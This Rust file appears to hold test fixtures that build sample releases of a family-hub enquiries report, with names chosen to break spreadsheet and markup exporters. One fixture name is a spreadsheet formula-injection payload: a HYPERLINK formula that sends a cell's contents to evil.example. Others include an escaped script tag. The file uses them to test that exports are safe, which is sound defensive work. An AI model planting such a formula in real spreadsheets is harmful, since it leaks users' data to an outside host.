//! Documents to publish: one with everything that a release can hold, with the names that break programs.

use chrono::NaiveDate;
use signpost::tally::{
    Cell, Chart, Column, Definition, DeskLine, Document, Figure, Line, Protection, Rules, Shape, State, Table, Unit,
};
use uuid::Uuid;

/// Names that a spreadsheet would run, that break a line or a mark, or that are very long.
pub const ODD: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click here\")",
    "+44 Parenting, by text",
    "-1 to 5s: \"Stay & Play\" <b>under fives</b>",
    "@Home, visits by health visitors",
    "Tŷ Croeso: grŵp rhieni a phlant bach, Llanfair-ym-Muallt",
    "Housing, homelessness & eviction: \"no fault\" notices, rent arrears and temporary places to stay for families",
    "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogochfamilyhub",
    "&lt;script&gt;alert(1)&lt;/script&gt; ]]> $x$ #set *bold* \\u{41}",
];

const NEEDS: [(&str, &str); 14] = [
    ("Food & essentials", "Money and home"),
    ("Childcare, funded hours", "Early years"),
    ("Debt and benefits advice", "Money and home"),
    ("Infant feeding", "Health"),
    ("SEND: waiting for an assessment", "SEND"),
    ("Parents' mental health", "Health"),
    (ODD[5], "Money and home"),
    ("Stay and play", "Early years"),
    ("Speech, language and communication", "SEND"),
    ("Parenting courses", "Family"),
    ("Sleep", "Family"),
    ("Relationship with the other parent", "Family"),
    ("Help with \"forms\"", "Money and home"),
    ("Immigration & asylum", "Law"),
];

fn column(id: &str, title: &str) -> Column {
    Column { id: id.into(), title: title.into() }
}

fn line(id: impl ToString, labels: &[&str], cells: Vec<Cell>) -> Line {
    Line { id: id.to_string(), labels: labels.iter().map(|l| (*l).to_owned()).collect(), cells, total: false }
}

fn total(labels: &[&str], cells: Vec<Cell>) -> Line {
    Line { total: true, ..line("total", labels, cells) }
}

fn words(text: &str) -> Cell {
    Cell::Words(text.into())
}

use Cell::{Blank, Count, Hidden, Percent};

/// Returns what stands in a line of counts, falling from the top of the list; small ones are hidden.
fn falling(at: usize, times: u64) -> Cell {
    match times * [255, 190, 145, 120, 95, 80, 60, 45, 35, 20, 15, 10, 3, 0][at] / 5 * 5 {
        0 if at == 13 => Count(0),
        0..=7 => Hidden,
        count => Count(count),
    }
}

fn needs() -> Table {
    let lines = NEEDS.iter().enumerate().map(|(at, (need, group))| {
        let share = if let Count(count) = falling(at, 1) { Percent(count * 100 / 1070) } else { Hidden };
        line(at, &[need, group], vec![falling(at, 1), share, if at == 4 { Blank } else { falling((at + 3) % 14, 1) }])
    });
    Table {
        id: "needs".into(),
        title: "What families asked for".into(),
        unit: Unit::Enquiries,
        notes: vec![
            "An enquiry about two needs is counted with each, so the lines add up to more than the total.".into(),
        ],
        headings: vec!["Need".into(), "Need group".into()],
        columns: vec![
            column("count", "Enquiries"),
            column("share", "Share of all enquiries"),
            column("before", "October to December 2025"),
        ],
        lines: lines.chain([total(&["All enquiries", ""], vec![Count(1070), Percent(100), Count(985)])]).collect(),
        chart: Some(Chart { shape: Shape::Bars, from: 0, to: 0 }),
        in_order: false,
    }
}

fn months() -> Table {
    let lines = NEEDS.iter().enumerate().map(|(at, (need, _))| {
        let month =
            |cell: Cell, by: u64| if let Count(n @ 1..) = cell { Count((n / 3 + by) / 5 * 5 + 5) } else { cell };
        let mut cells = vec![month(falling(at, 1), 0), month(falling(at, 1), 15), month(falling(at, 1), at as u64 * 4)];
        if at == 3 || at == 8 {
            cells[1] = Hidden;
        }
        line(at, &[need], cells)
    });
    Table {
        id: "needs-by-month".into(),
        title: "Needs by month".into(),
        unit: Unit::Enquiries,
        notes: vec![],
        headings: vec!["Need".into()],
        columns: vec![
            column("2026-10", "October 2026"),
            column("2026-11", "November 2026"),
            column("2026-12", "December 2026"),
        ],
        lines: lines.collect(),
        chart: Some(Chart { shape: Shape::Curves, from: 0, to: 2 }),
        in_order: false,
    }
}

fn hubs() -> Table {
    let lines = NEEDS.iter().take(6).enumerate().map(|(at, (need, _))| {
        line(
            at,
            &[need],
            vec![falling(at + 2, 1), falling(at + 5, 1), falling(at + 8, 1), if at == 5 { Blank } else { Hidden }],
        )
    });
    Table {
        id: "needs-by-hub".into(),
        title: "Needs by hub".into(),
        unit: Unit::Enquiries,
        notes: vec!["Hubs with fewer than 8 enquiries are in \"Other hubs\".".into()],
        headings: vec!["Need".into()],
        columns: vec![
            column("riverside", "Riverside Family Hub"),
            column("ty-croeso", "Tŷ Croeso / Welcome House"),
            column("north", "North & East \"Bumps\" Hub"),
            column("other", "Other hubs"),
        ],
        lines: lines.collect(),
        chart: None,
        in_order: false,
    }
}

fn gaps() -> Table {
    let kinds = [
        ("SEND: waiting for an assessment", 45, "3 services; 2 full, 1 not checked since March 2026"),
        ("Food & essentials", 30, "5 services; none open on Mondays"),
        (ODD[5], 25, "1 service; full"),
        ("Childcare, funded hours", 20, "none listed"),
        ("Sleep", 15, "2 services; both for other ages"),
        ("Help with \"forms\"", 10, "none listed"),
    ];
    let lines = kinds.iter().enumerate().map(|(at, (need, count, listed))| {
        line(at, &[need], vec![Count(*count), if at % 2 == 0 { Count(10) } else { Hidden }, Hidden, words(listed)])
    });
    Table {
        id: "gaps".into(),
        title: "Where nothing could be offered".into(),
        unit: Unit::Needs,
        notes: vec!["Most wanted first.".into()],
        headings: vec!["Need".into()],
        columns: vec![
            column("nothing", "Nothing offered"),
            column("full", "Full or waiting list"),
            column("none", "No such service"),
            column("listed", "In the catalogue"),
        ],
        lines: lines
            .chain([line("last", &["Immigration & asylum"], vec![Hidden, Hidden, Hidden, words("")])])
            .collect(),
        chart: Some(Chart { shape: Shape::Bars, from: 0, to: 0 }),
        in_order: false,
    }
}

fn services() -> Table {
    let lines =
        ODD.iter().enumerate().map(|(at, name)| line(at, &[name], vec![falling(at * 2 % 14, 1), Percent(at as u64)]));
    Table {
        id: "services".into(),
        title: "Services handed out".into(),
        unit: Unit::Enquiries,
        notes: vec!["=1+1 is no formula".into()],
        headings: vec!["Service".into()],
        columns: vec![column("count", "Enquiries"), column("share", "-Share, %")],
        lines: lines.collect(),
        chart: None,
        in_order: false,
    }
}

fn ages() -> Table {
    let of = [
        ("not asked", Count(610)),
        ("under 1", Count(140)),
        ("1 to 2", Count(115)),
        ("3 to 4", Count(90)),
        ("5 to 11", Count(60)),
        ("12 to 18", Hidden),
        ("expecting", Hidden),
    ];
    Table {
        id: "ages".into(),
        title: "Children's ages".into(),
        unit: Unit::Enquiries,
        notes: vec![],
        headings: vec!["Age".into()],
        columns: vec![column("count", "Enquiries")],
        lines: of.into_iter().map(|(name, cell)| line(name, &[name], vec![cell])).collect(),
        chart: Some(Chart { shape: Shape::Bars, from: 0, to: 0 }),
        in_order: false,
    }
}

fn nothing() -> Table {
    Table {
        id: "unfound".into(),
        title: "Words that found nothing".into(),
        unit: Unit::Enquiries,
        notes: vec![],
        headings: vec!["Word".into()],
        columns: vec![column("count", "Times")],
        lines: vec![],
        chart: Some(Chart { shape: Shape::Bars, from: 0, to: 0 }),
        in_order: false,
    }
}

fn figure(label: &str, cell: Cell, before: Option<Cell>, sentence: &str) -> Figure {
    Figure { label: label.into(), cell, before, sentence: sentence.into() }
}

/// Returns a first, protected release of real enquiries.
pub fn protected() -> Document {
    let day = |text: &str| text.parse::<NaiveDate>().unwrap();
    let desk = |hub: &str, desk: Option<&str>, last: Option<&str>, missing| DeskLine {
        hub: hub.into(),
        desk: desk.map(str::to_owned),
        last_day: last.map(day),
        missing,
    };
    let meaning = |word: &str, meaning: &str| Definition { word: word.into(), meaning: meaning.into() };
    Document {
        title: "What families asked for: Exampleshire & Sir Enghraifft, October to December 2026".into(),
        place: "Exampleshire & Sir Enghraifft".into(),
        place_id: "exampleshire".into(),
        period: "October to December 2026".into(),
        period_id: "2026-27-Q3".into(),
        example: false,
        protection: Protection::Protected(Rules::default()),
        state: State {
            revision: 1,
            revises: None,
            made: day("2027-01-11"),
            id: Uuid::from_u128(0x7f0c_93d2_41aa_4b0e_9a7e_5d1e_0b6c_2f11),
        },
        desks: vec![
            desk("North & East \"Bumps\" Hub", Some("9e07"), Some("2026-11-30"), true),
            desk("Tŷ Croeso / Welcome House", None, None, true),
            desk("Riverside Family Hub", Some("41c2"), Some("2026-12-31"), false),
            desk("Riverside Family Hub", Some("b8d0"), Some("2027-01-08"), false),
        ],
        figures: vec![
            figure(
                "Enquiries",
                Count(1070),
                Some(Count(985)),
                "Families made about 1,070 enquiries, 85 more than a year before.",
            ),
            figure(
                "Something was offered",
                Percent(86),
                Some(Percent(88)),
                "In 86% of enquiries something was offered; a leaflet counts too.",
            ),
            figure(
                "Most asked for",
                words("Food & essentials"),
                Some(words("Childcare, funded hours")),
                "About 255 enquiries were about food and essentials.",
            ),
            figure(
                "Needs with nothing to offer",
                Count(145),
                None,
                "For about 145 needs nothing could be offered, most often because services were full.",
            ),
            figure(
                "Interpreter needed",
                Hidden,
                Some(Count(10)),
                "The number of enquiries with an interpreter is hidden, because it is small.",
            ),
        ],
        tables: vec![needs(), months(), gaps(), hubs(), services(), ages(), nothing()],
        definitions: vec![
            meaning(
                "Enquiry",
                "One conversation at a front desk in which a family asked for something. Quick chats are not counted.",
            ),
            meaning(
                "Something was offered",
                "At least one need of the enquiry had an outcome other than \"nothing to offer\" or \"declined\"; a leaflet is not a met need.",
            ),
            meaning("Not asked", "Nobody asked. It never counts as no."),
        ],
        hidden: vec![
            "14 counts are hidden in \"Needs by hub\".".into(),
            "Two hubs are shown together, because one had fewer than 8 enquiries.".into(),
        ],
    }
}

/// Returns one with true counts, of invented hubs, which takes the place of an earlier one.
pub fn internal() -> Document {
    let mut document = protected();
    document.protection = Protection::Internal("board paper <on> \"hours\" & staffing, 12 January".into());
    document.example = true;
    document.state.revision = 2;
    document.state.revises = Some("3f2a9c0d".into());
    document
}

/// Returns one with the longest names that a catalogue may hold, and long sentences.
pub fn longest() -> Document {
    let mut document = protected();
    let long =
        "Cyngor Bwrdeistref Sirol Pen-y-bont ar Ogwr a'r Fro, Rhondda Cynon Taf & the Vale of Exampleshire Families";
    document.place = long.into();
    document.title = format!("What families asked for: {long}, October to December 2026");
    document.period = "Autumn term, first half (2 September to 23 October 2026)".into();
    for figure in &mut document.figures {
        figure.label = format!("{} of everything that families asked", figure.label);
        figure.sentence = format!(
            "{} {}",
            figure.sentence,
            "That is more than in any autumn since the hubs opened, and fewer than staff had expected in the summer."
        );
    }
    document.figures[2].cell = Cell::Words(ODD[5].into());
    for table in &mut document.tables {
        table.title = format!("{}, as far as it was written down at the desk while families waited", table.title);
        for line in &mut table.lines {
            for label in &mut line.labels {
                *label = format!("{label} {}", ODD[6]);
            }
        }
    }
    for number in 0..40 {
        document
            .desks
            .insert(0, DeskLine { hub: format!("{long} {number}"), desk: None, last_day: None, missing: true });
    }
    // Longer than any cell of a spreadsheet may be.
    document.hidden.push(format!("Not shown: {}.", "month detail of a need, ".repeat(2000)));
    document
}
